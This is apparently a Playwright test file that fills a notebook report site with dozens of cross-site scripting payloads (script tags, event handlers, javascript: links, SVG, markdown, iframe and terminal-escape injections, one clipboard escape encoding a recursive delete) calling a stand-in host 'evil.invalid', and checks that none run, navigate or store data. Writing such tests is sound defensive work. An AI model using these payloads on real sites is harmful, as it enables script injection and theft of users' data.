"""Whatever a notebook writes, none of it runs in the site, asks for anything, or reaches what the site stores."""

from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Frame, Page

from tests.reporting.browser.conftest import Opened, publish, served
from tests.reporting.fabricate import Fabric, Made, code, markdown, notebook

pytestmark = pytest.mark.chromium

EVIL = "https://evil.invalid/"
STEAL = f"try{{localStorage.stolen=1}}catch{{}};top.pwned=1;fetch('{EVIL}');alert(1)"
HTML = [
    f"<script>{STEAL}</script>",
    f"<script src='{EVIL}x.js'></script>",
    f"<script type=module>import '{EVIL}x.js'</script>",
    f'<img src=x onerror="{STEAL}">',
    f"<img src='{EVIL}x.png'>",
    f'<svg onload="{STEAL}"><script>{STEAL}</script></svg>',
    f"<svg><use href='{EVIL}x.svg#a'/><image href='{EVIL}x.png'/></svg>",
    f"<iframe src='javascript:{STEAL}'></iframe>",
    f'<iframe srcdoc="<script>{STEAL}</script>"></iframe>',
    f"<iframe src='{EVIL}'></iframe>",
    f'<a href="javascript:{STEAL}" id=app name=nbdag>click</a>',
    f"<form action='{EVIL}'><input name=x autofocus onfocus=\"{STEAL}\"><button>go</button></form>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<base href='{EVIL}'><link rel=stylesheet href='{EVIL}x.css'>",
    f"<style>@import '{EVIL}x.css'; body{{background:url({EVIL}x.png)}} *{{display:none!important}}</style>",
    f'<div style="background:url({EVIL}x.png);position:fixed;inset:0">over everything</div>',
    f"<object data='{EVIL}'></object><embed src='{EVIL}'>",
    f"<video src='{EVIL}x.mp4' autoplay></video><audio src='{EVIL}x.mp3' autoplay></audio>",
    f'<details open ontoggle="{STEAL}"><summary>x</summary></details>',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={STEAL}&gt;">',
    f'<noscript><p title="</noscript><img src=x onerror={STEAL}>"></noscript>',
    f"<template><script>{STEAL}</script></template>",
    f"<table background='{EVIL}x.png'><tr><td onmouseover=\"{STEAL}\">cell</td></tr></table>",
    f"<input type=image src='{EVIL}x.png'><body onload=\"{STEAL}\">",
    f'<x-y is=z onanimationstart="{STEAL}">a</x-y><marquee onstart="{STEAL}">b</marquee>',
    f'<a href="  java\tscript:{STEAL}">tab</a><a href="vbscript:x">vb</a><area href="javascript:{STEAL}">',
    f'<svg><a xlink:href="javascript:{STEAL}"><text>x</text></a><animate onbegin="{STEAL}" dur=1s></svg>',
    f'<svg><foreignObject><iframe srcdoc="<script>{STEAL}</script>"></iframe></foreignObject></svg>',
    f'<img srcset="{EVIL}x.png 1x" src="{EVIL}y.png"><picture><source srcset="{EVIL}z.png"></picture>',
    f'<link rel=preload as=script href="{EVIL}x.js"><link rel=icon href="{EVIL}i">',
    f'<button formaction="javascript:{STEAL}" popovertarget=app>x</button><dialog open>over</dialog>',
    "<div id=app>clobbered</div><form name=nbdag><input name=load></form><img name=documentElement>",
    f'<custom-element contenteditable onfocus="{STEAL}" tabindex=0 autofocus>x</custom-element>',
]
MARKDOWN = [
    f"[x](javascript:{STEAL})",
    f"![x]({EVIL}x.png)",
    f'<img src=x onerror="{STEAL}">',
    f"[x](data:text/html,<script>{STEAL}</script>)",
    f'[x]({EVIL} "onmouseover={STEAL}")',
    f"<script>{STEAL}</script>\n\n# {'#' * 3000}",
    f"[x]: javascript:{STEAL}\n\n[x] <javascript:{STEAL}> [a](\\x01javascript:{STEAL})",
    f"```html\n<script>{STEAL}</script>\n```\n\n$$\\href{{javascript:{STEAL}}}{{x}}$$",
]
NAMES = [
    f"<img src=x onerror={STEAL}>",
    f"'\"></title></script><script>{STEAL}</script>",
    "__proto__",
    "constructor",
    "../../../index.html#/x?y=z&a[b]=c,%00%2e",
    "\u202egnp.exe\x1b]8;;https://evil.invalid/\x07link\x1b]8;;\x07",
    "');alert(1)//\\\u2028\u2029",
    "${alert(1)}{{constructor.constructor('alert(1)')()}}",
]
POSTED = f"postMessage('<script>{STEAL}<\\/script>','*')"
FRAMES = [
    f'<iframe name=nbdag src="frame.html" onload="this.contentWindow.{POSTED}"></iframe>',
    f"<iframe src='data:text/html,<script>{STEAL}</script>'></iframe><frameset><frame src='javascript:{STEAL}'>",
    f"<script>parent.postMessage('nbdag frame is ready','*');parent.location='javascript:{STEAL}'</script>",
    f"<script>open('frame.html').onload=function(){{this.{POSTED}}}</script>",
    f"<script>top.location='{EVIL}';parent.nbdag.load('index','[]');parent.document.body.remove()</script>",
    f"<portal src='{EVIL}'></portal><iframe sandbox='allow-scripts allow-same-origin' src=index.html></iframe>",
]
LINKS = [
    f'<a href="java&#115;cript&colon;{STEAL}" target=_self>entities</a><a href="\x00javascript:{STEAL}">null</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD50b3AucHduZWQ9MTwvc2NyaXB0Pg==" download=x.html>data</a>',
    f'<a href="blob:{EVIL}1" ping="{EVIL}">blob</a><a href="filesystem:{EVIL}x">f</a><a href="file:///x">p</a>',
    f'<a href="#/run/x" onclick="{STEAL}" style="position:fixed;inset:0" accesskey=x>over the page</a>',
]
MARKED = [
    f'```mermaid\ngraph TD; A["<img src=x onerror={STEAL}>"] --> B; click A "javascript:{STEAL}"\n```',
    f"%%{{init: {{'securityLevel': 'loose'}}}}%%\nsequenceDiagram\nA->>B: <script>{STEAL}</script>",
    f"![x](javascript:{STEAL}) ![y](data:image/svg+xml,<svg/onload={STEAL}>) <https://a'onclick={STEAL}>",
    f"<div>\n\n[a](&#106;avascript:{STEAL})\n\n| <script>{STEAL}</script> |\n|---|\n| [b](vbscript:x) |",
]
SVG = [
    f'<svg><set attributeName="href" to="javascript:{STEAL}"/><a href="?"><text>x</text></a></svg>',
    f'<?xml-stylesheet href="javascript:{STEAL}"?><!DOCTYPE svg [<!ENTITY x SYSTEM "{EVIL}">]><svg>&x;</svg>',
    f'<svg><style>@import "{EVIL}x.css";</style><handler type="text/javascript">{STEAL}</handler></svg>',
]
TERMINAL = [
    f"\x1b]8;;javascript:{STEAL}\x07click\x1b]8;;\x07\x1b]52;c;cm0gLXJmIH4=\x07\x1b]0;title\x07",
    f"\x1b[31m<img src=x onerror={STEAL}>\x1b[999;999H\x1b[2J\x9b31m\x90q\x9c\x1bP+q\x1b\\",
    '\r\x1b[38;5;"><script>top.pwned=1</script>m\x1b[38;2;1;1m\x08\x08\u202e\u2066',
]
FILES = [
    "a/../../index.html",
    "con\x00.html\n<script>top.pwned=1</script>.png",
    "x.png?y=<svg onload=top.pwned=1>#z",
]
PAYLOADS = [*HTML, *MARKDOWN, *NAMES, *FRAMES, *LINKS, *MARKED, *SVG, *TERMINAL, *FILES]
assert len(set(PAYLOADS)) >= 60
PAGES = [
    "",
    "#/runs?different=1",
    "#/matrix",
    "#/run/run-00001",
    "#/run/run-00001?view=graph",
    "#/run/run-00001?view=timeline",
    "#/run/run-00001/task/page",
    "#/run/run-00001/task/page?view=results",
    "#/run/run-00001/task/page?view=key",
    "#/run/run-00001/task/broken",
    "#/compare?runs=run-00001,run-00002",
    "#/compare?runs=run-00001,run-00002&view=tasks",
    "#/compare?runs=run-00001,run-00002&view=notebooks&task=page",
    "#/compare?runs=run-00001,run-00002&view=pictures&task=page",
    "#/compare?runs=run-00001,run-00002&view=charts",
    "#/history",
]
SHOWING_ALL = [page for page in PAGES if page.endswith(("/task/page", "view=results", "view=notebooks&task=page"))]
"""The pages that show every payload in every kind of output."""
VISITS = [("file", page) for page in PAGES]
VISITS += [(where, page) for where in ("host", "foreign") for page in ("", *SHOWING_ALL)]


def everywhere(payload: str) -> list[dict[str, Any]]:
    """Write a payload into every kind of output that a cell can have."""
    types = ["text/html", "text/plain", "text/markdown", "text/latex", "image/svg+xml", "application/javascript"]
    structured = {"application/json": {payload: [payload, {"__proto__": payload}]}, payload: payload}
    return [
        *({"output_type": "display_data", "metadata": {}, "data": {kind: payload}} for kind in types),
        {"output_type": "execute_result", "execution_count": 1, "metadata": {}, "data": structured},
        {"output_type": "stream", "name": payload, "text": f"\x1b[31m{payload}\x1b]0;{payload}\x07"},
        {"output_type": "error", "ename": payload, "evalue": payload, "traceback": [payload, f"\x1b[1m{payload}"]},
    ]


def hostile(fabric: Fabric) -> Fabric:
    """Write every payload into every place that a notebook controls."""
    for number in (1, 2):
        names = {name: f"{value} {number}" for name, value in zip(PAYLOADS, reversed(PAYLOADS), strict=True)}
        outputs = [output for payload in PAYLOADS for output in everywhere(payload)]
        outputs.append(
            {"output_type": "display_data", "data": {"application/javascript": STEAL, "image/png": "%"}}
        )
        book = notebook(*map(markdown, PAYLOADS), code(HTML[0] + str(number), *outputs), *map(code, PAYLOADS))
        artifacts = {
            **{f"{place}.html": (payload.encode(), "text/html") for place, payload in enumerate(PAYLOADS)},
            **{payload: (payload.encode(), "text/plain") for payload in PAYLOADS},
            "x.svg": (HTML[5].encode(), "image/svg+xml"),
            "x.md": (MARKDOWN[2].encode(), "text/markdown"),
            f"{NAMES[0]}.csv": (f"{HTML[3]},{HTML[4]}\n{number},2\n".encode(), "text/csv"),
            "fake.png": (HTML[0].encode(), "image/png"),
        }
        page = Made(
            name="page",
            notebook=book,
            params=names,
            tags=names,
            metrics=dict.fromkeys(PAYLOADS, float(number)),
            artifacts=artifacts,
            reasons=tuple(PAYLOADS),
            ingredients=tuple((name, name, name) for name in PAYLOADS),
            series={name: [[0, 1.0, None], [1, 2.0, None]] for name in PAYLOADS},
        )
        broken = Made(
            name="broken", status="failed", error=(NAMES[0], HTML[3], f"\x1b[31m{HTML[0]}"), reasons=(HTML[3],)
        )
        others = [Made(name=name, family=HTML[3], above=("page",), metrics={"auc": 1.0}) for name in NAMES]
        fabric.run(
            number,
            page,
            broken,
            *others,
            branch=HTML[3],
            commit=NAMES[1],
            resource={"vcs.repository.url.full": f"javascript:{STEAL}", "vcs.change.id": HTML[3]},
        )
    return fabric


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("hostile")
    return publish(hostile(Fabric(root)), root / "site")


STATE = """() => {
    let stored = []
    try { stored = Object.keys(localStorage) } catch {}  // a frame of another origin has none
    return [window.pwned, stored, ({}).polluted]
}"""
CLEAN: list[Any] = [None, [], None]
HARMFUL = ", ".join(
    f"main {element}"
    for element in ("script", "iframe:not(.sandbox)", "[onerror]", "[onload]", "[onclick]", "[style*=fixed]")
)
ADDRESSES = """() => Array.from(document.querySelectorAll("main a, main area, main use, main img"),
    one => one.href?.baseVal ?? one.href ?? one.src)"""


@contextmanager
def inside(foreign: Path, framed: str) -> Iterator[str]:
    """Serve a page of another origin that embeds an address, and give the page's own."""
    foreign.mkdir(exist_ok=True)
    (foreign / "index.html").write_text(
        f"<!doctype html><link rel=icon href=data:,><iframe src='{framed}' width=1200 height=800></iframe>"
    )
    with served(foreign) as base:
        yield base.replace("127.0.0.1", "localhost")


@contextmanager
def opened_from(where: str, page: Page, site: Path, address: str) -> Iterator[tuple[Frame, str, Opened]]:
    """Open an address of a site as a file, from a static host, or inside a page of another origin."""
    if where == "file":
        opened = Opened(page, f"file://{site}/")
        yield opened.go(address).main_frame, opened.base, opened
        return
    with served(site) as base:
        if where == "host":
            opened = Opened(page, base)
            yield opened.go(address).main_frame, base, opened
            return
        with inside(site.parent / "foreign", f"{base}index.html{address}") as foreign:
            opened = Opened(page, base, foreign)
            page.goto(foreign)
            [frame] = page.main_frame.child_frames
            frame.wait_for_selector("main h1")
            frame.wait_for_function("() => !document.querySelector('.loading')")
            yield frame, base, opened


@pytest.mark.slow
@pytest.mark.parametrize(("where", "address"), VISITS)
def test_no_payload_runs_asks_or_stores(browser: Browser, hostile_site: Path, address: str, where: str) -> None:
    """On every page, with every frame opened: no script, no dialog, no request, no navigation, no storage."""
    context = browser.new_context()
    page = context.new_page()
    with opened_from(where, page, hostile_site, address) as (site, base, opened):
        buttons = site.get_by_role("button", name="runs its script in a sandbox")
        for _ in range(buttons.count()):
            buttons.first.click()
        for frame in site.child_frames:
            frame.wait_for_load_state()
        assert site.url.partition("#")[0] == f"{base}index.html"
        assert [site.evaluate(STATE), page.evaluate(STATE), len(context.pages)] == [CLEAN, CLEAN, 1]
        assert site.locator(HARMFUL).count() == 0
        own = (base, "https:", "http:", "mailto:", "data:image/", "#")
        assert [address for address in site.evaluate(ADDRESSES) if address and not address.startswith(own)] == []
        # that the browser says what it refused is fine
        assert [said for said in opened.said if said.startswith(("dialog:", "request:"))] == []
    context.close()


def test_the_site_is_found_though_everything_is_hostile(hostile_site: Path, browser: Browser) -> None:
    """The payloads are there to be read, as text."""
    context = browser.new_context()
    opened = Opened(context.new_page(), f"file://{hostile_site}/")
    page = opened.go("#/run/run-00001/task/page?view=results")
    assert page.get_by_text("__proto__", exact=True).count() >= 3
    context.close()
